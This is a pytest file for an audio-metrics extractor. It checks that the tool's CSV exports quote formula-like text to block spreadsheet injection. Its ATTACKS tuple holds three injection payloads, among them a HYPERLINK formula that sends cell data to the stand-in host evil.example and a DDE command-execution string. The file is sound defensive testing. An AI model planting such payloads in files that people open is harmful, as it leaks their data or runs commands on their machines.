"""Every CSV the extractor writes is safe to open in a spreadsheet (OWASP CSV injection)."""

import csv

import numpy as np

from loudscape_extract.cli import main
from loudscape_extract.csv_table import csv_cell, write_csv
from loudscape_extract.ply import write_ply
from loudscape_extract.report import songs_csv_path

ATTACKS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
)


def test_formula_text_is_quoted_and_numbers_stay_numbers(tmp_path):
    path = tmp_path / "t.csv"
    rows = [{"title": t, "lufs": -14.23456, "none": None} for t in ATTACKS]
    rows.append({"title": "-5 dB mix\tlive", "lufs": 3, "none": None})
    rows.append({"title": 'Plain, with "quotes"', "lufs": 0.0, "none": None})
    assert write_csv(str(path), ("title", "lufs", "none"), rows) == 5
    with open(path, newline="", encoding="utf-8") as handle:
        back = list(csv.DictReader(handle))
    assert [r["title"] for r in back[:3]] == ["'" + t for t in ATTACKS]
    assert back[3]["title"] == "'-5 dB mix\tlive"
    assert back[4]["title"] == 'Plain, with "quotes"'
    assert [r["lufs"] for r in back] == ["-14.2346"] * 3 + ["3", "0.0"]
    assert all(r["none"] == "" for r in back)
    assert csv_cell("\rx") == "'\rx" and csv_cell("x=1") == "x=1"


def test_timeline_report_csv_quotes_formula_titles(tmp_path, capsys):
    songs = [
        {
            "year": 1990 + i,
            "title": title,
            "artist": title,
            "path": f"{title}.flac",
            "metrics": {"integrated_lufs": -12.0 - i, "true_peak_dbtp": -1.0},
        }
        for i, title in enumerate(ATTACKS)
    ]
    cloud = tmp_path / "t.ply"
    meta = {"format_version": 2, "mode": "timeline", "point_count": 1, "songs": songs}
    write_ply(cloud, points=np.zeros((1, 5), np.float32), metadata=meta)
    table = tmp_path / "r.csv"
    assert main(["report", str(cloud), "-o", str(tmp_path / "r.png"), "--csv", str(table)]) == 0
    with open(songs_csv_path(str(table)), newline="", encoding="utf-8") as handle:
        back = list(csv.DictReader(handle))
    for row, title in zip(back, ATTACKS, strict=True):
        assert row["title"] == row["artist"] == "'" + title
        assert row["path"] == "'" + title + ".flac"
        assert float(row["integrated_lufs"]) < -11.0  # numbers are not quoted
